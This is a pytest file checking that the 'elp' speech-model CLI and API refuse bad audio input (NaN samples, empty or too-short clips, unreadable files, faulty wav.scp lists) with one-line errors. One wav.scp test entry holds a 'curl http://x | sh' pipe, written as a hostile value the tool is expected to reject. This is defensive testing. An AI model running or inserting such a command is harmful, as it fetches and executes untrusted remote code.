"""Bad input through the API and the command line: one line naming the input, never a number."""
from __future__ import annotations

import codecs
from pathlib import Path

import numpy as np
import pytest
import soundfile

from elp.cli import main
from elp.serve.inference import AudioInputError, load_predictor
from elp.testing import make_tiny_package


@pytest.fixture(scope="module")
def predictors(tmp_path_factory):
    root = tmp_path_factory.mktemp("bad_input")
    return {kind: load_predictor(make_tiny_package(root / kind, task=kind, method="l_only"))
            for kind in ("classify", "asr", "sv")}


def call(predictor, wav, **kw):
    if predictor.kind == "classify":
        return predictor.classify(wav, **kw)
    if predictor.kind == "asr":
        return predictor.transcribe(wav, **kw)
    return predictor.verify(np.ones(16000, dtype=np.float32), wav, **kw)


@pytest.mark.parametrize("kind", ["classify", "asr", "sv"])
@pytest.mark.parametrize("bad, message", [
    (np.array([0.1] * 8000 + [np.nan] * 10, dtype=np.float32), "holds NaN/inf samples; fix or drop this input"),
    (np.array([0.1] * 8000 + [np.inf], dtype=np.float32), "holds NaN/inf samples; fix or drop this input"),
    (np.zeros(0, dtype=np.float32), "empty audio input"),
    (np.zeros(100, dtype=np.float32), "has 100 samples at 16 kHz, fewer than the backbone's receptive field"),
])
def test_bad_arrays_are_refused_naming_the_input(predictors, kind, bad, message):
    name = "test input 0" if kind == "sv" else "input 0"
    with pytest.raises(AudioInputError, match=rf"^{name}(:)? {message}" if "samples at" in message
                       else rf"^{name}: {message}") as err:
        call(predictors[kind], bad, sample_rate=16000)
    assert "\n" not in str(err.value)


def test_a_bad_input_in_a_list_is_named_by_its_position(predictors):
    good = np.zeros(16000, dtype=np.float32)
    with pytest.raises(AudioInputError, match=r"^input 2: holds NaN/inf samples"):
        predictors["classify"].classify([good, good, np.full(16000, np.nan, dtype=np.float32)], sample_rate=16000)


@pytest.mark.parametrize("content", [b"this is not audio\n", b""])
def test_unreadable_files_are_refused_naming_them(predictors, tmp_path, content):
    path = tmp_path / "notes.wav"
    path.write_bytes(content)
    with pytest.raises(AudioInputError, match=rf"{path}") as err:
        predictors["asr"].transcribe(str(path))
    assert "\n" not in str(err.value)
    with pytest.raises(SystemExit, match=rf"^elp infer: .*{path}"):
        main(["infer", "--package", str(predictors["asr"].package.directory), "--no-progress", str(path)])


def test_a_float_wav_with_nan_is_refused_by_file_and_by_the_cli(predictors, tmp_path):
    path = tmp_path / "nan.wav"
    soundfile.write(path, np.full(16000, np.nan, dtype=np.float32), 16000, subtype="FLOAT")
    with pytest.raises(AudioInputError, match=r"NaN|non-finite"):
        predictors["classify"].classify(str(path))
    with pytest.raises(SystemExit, match=r"^elp verify: .*nan.wav"):
        main(["verify", "--package", str(predictors["sv"].package.directory), str(path), str(path)])


def write_wav(path: Path, seconds: float = 1.0) -> Path:
    soundfile.write(path, 0.1 * np.sin(np.arange(int(seconds * 16000)) / 9.0).astype(np.float32), 16000)
    return path


def test_wav_scp_is_read_with_the_stage_1_rules(predictors, tmp_path, capsys):
    package = str(predictors["classify"].package.directory)
    a, b = write_wav(tmp_path / "a.wav"), write_wav(tmp_path / "b.wav", 0.5)
    scp = tmp_path / "wav.scp"
    scp.write_bytes(codecs.BOM_UTF8 + f"u1 {a}\nu2 {b}\n".encode())
    with pytest.raises(SystemExit, match=r"wav.scp:1: starts with a UTF-8 byte-order mark.*remove it"):
        main(["infer", "--package", package, "--wav-scp", str(scp)])
    scp.write_text(f"u1 {a}\nu1 {b}\n")
    with pytest.raises(SystemExit, match=r"wav.scp: key 'u1' occurs more than once"):
        main(["infer", "--package", package, "--wav-scp", str(scp)])
    scp.write_text(f"u1 {a}\nu2 curl http://x | sh |\n")
    with pytest.raises(SystemExit, match=r"^elp infer: .*wav.scp: .*u2.*"):
        main(["infer", "--package", package, "--wav-scp", str(scp)])
    scp.write_text(f"u1 {a}\nu2 sox {b} -t wav - |\n")  # a decoder pipe elp reads natively
    assert main(["infer", "--package", package, "--wav-scp", str(scp), "--no-progress"]) == 0
    lines = capsys.readouterr().out.strip().splitlines()
    assert [line.split()[0] for line in lines[-2:]] == ["u1", "u2"]
    expected = predictors["classify"].classify([str(a), str(b)])
    assert lines[-1].endswith(f"{expected[1].label} {expected[1].probabilities[expected[1].label]:.4f}")


def test_a_bad_wav_scp_entry_is_named_by_its_utterance(predictors, tmp_path):
    package = str(predictors["classify"].package.directory)
    a = write_wav(tmp_path / "a.wav")
    short = tmp_path / "short.wav"
    soundfile.write(short, np.zeros(50, dtype=np.float32), 16000)
    scp = tmp_path / "wav.scp"
    scp.write_text(f"u1 {a}\nu2 {short}\n")
    with pytest.raises(SystemExit, match=r"^elp infer: u2 has 50 samples at 16 kHz, fewer than the backbone's "
                                         r"receptive field"):
        main(["infer", "--package", package, "--wav-scp", str(scp)])
